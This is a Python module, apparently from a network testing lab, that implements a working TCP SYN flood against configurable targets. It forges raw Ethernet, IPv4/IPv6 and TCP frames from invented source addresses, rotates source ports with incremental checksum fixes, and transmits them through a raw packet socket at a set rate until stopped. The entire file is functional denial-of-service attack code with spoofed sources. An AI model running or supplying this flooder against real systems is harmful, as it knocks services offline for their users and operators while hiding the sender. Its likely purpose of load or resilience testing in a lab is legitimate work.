"""Somebody who floods a listener: SYNs from sources that he invents, each from another address and port, as fast as he is told to.

    python -m lab.strangers.syn_flood '{"mac": hex, "targets": [[address, port], ...], "rate": SYNs a second, "into": path}'

Ends at SIGTERM, and writes how many he has sent in which time.
"""

import json
import random
import signal
import socket
import struct
import sys
import threading
import time
from collections.abc import Sequence
from ipaddress import ip_address
from pathlib import Path

from lab.fabric.messages import Batch

SOURCES = 256  # that he begins with: for each he goes on by counting its port
_BATCH_SECONDS = 0.002
_MAC = bytes.fromhex("020000000bad")
_SYN = 0x02


class Inventions:
    """Frames with SYNs to some targets in turn, each from another source: a batch of SOURCES at a time."""

    def __init__(self, mac: bytes, targets: Sequence[tuple[str, int]]) -> None:
        chosen = [targets[number % len(targets)] for number in range(SOURCES)]
        self._frames = [bytearray(_frame(mac, *target, number)) for number, target in enumerate(chosen)]
        self._headers = [14 + (40 if ":" in target else 20) for target, _ in chosen]
        self._batch = Batch(self._frames)

    def send(self, opened: socket.socket) -> int:
        """Send the next ones and return how many: each a port further on, and so one less in its checksum (RFC 1624)."""
        for frame, at in zip(self._frames, self._headers, strict=True):
            port, total = frame[at] << 8 | frame[at + 1], frame[at + 16] << 8 | frame[at + 17]
            if total and port < 0xFFFF:
                port, total = port + 1, total - 1
            frame[at], frame[at + 1], frame[at + 16], frame[at + 17] = port >> 8, port & 0xFF, total >> 8, total & 0xFF
        return self._batch.send(opened)


def _frame(mac: bytes, target: str, port: int, number: int) -> bytes:
    to = ip_address(target)
    source = ip_address(0x64400000 | random.getrandbits(22) if to.version == 4 else 0x20010DB8 << 96 | random.getrandbits(64))
    segment = struct.pack("!HHIIBBHHH", 1024 + random.getrandbits(10), port, number, 0, 5 << 4, _SYN, 1024, 0, 0)
    total = _checksum(source.packed + to.packed + struct.pack("!HH", len(segment), socket.IPPROTO_TCP) + segment)
    segment = segment[:16] + struct.pack("!H", total) + segment[18:]
    if to.version == 6:
        header = struct.pack("!IHBB", 6 << 28, len(segment), socket.IPPROTO_TCP, 64) + source.packed + to.packed
        return mac + _MAC + b"\x86\xdd" + header + segment
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0, 64, socket.IPPROTO_TCP, 0) + source.packed + to.packed
    return mac + _MAC + b"\x08\x00" + header[:10] + struct.pack("!H", _checksum(header)) + header[12:] + segment


def _checksum(data: bytes) -> int:
    """RFC 1071; this program has nothing of ours to import."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def main() -> None:
    settings = json.loads(sys.argv[1])
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    inventions = Inventions(bytes.fromhex(settings["mac"]), settings["targets"])
    rate, sent, began = settings["rate"], 0, time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as opened:
        opened.bind(("eth0", 0))
        print("it begins", flush=True)
        while not stop.is_set():
            if int((time.monotonic() - began) * rate) < sent:
                stop.wait(_BATCH_SECONDS)
            else:
                sent += inventions.send(opened)
    Path(settings["into"]).write_text(json.dumps({"sent": sent, "seconds": time.monotonic() - began}) + "\n")


if __name__ == "__main__":
    main()
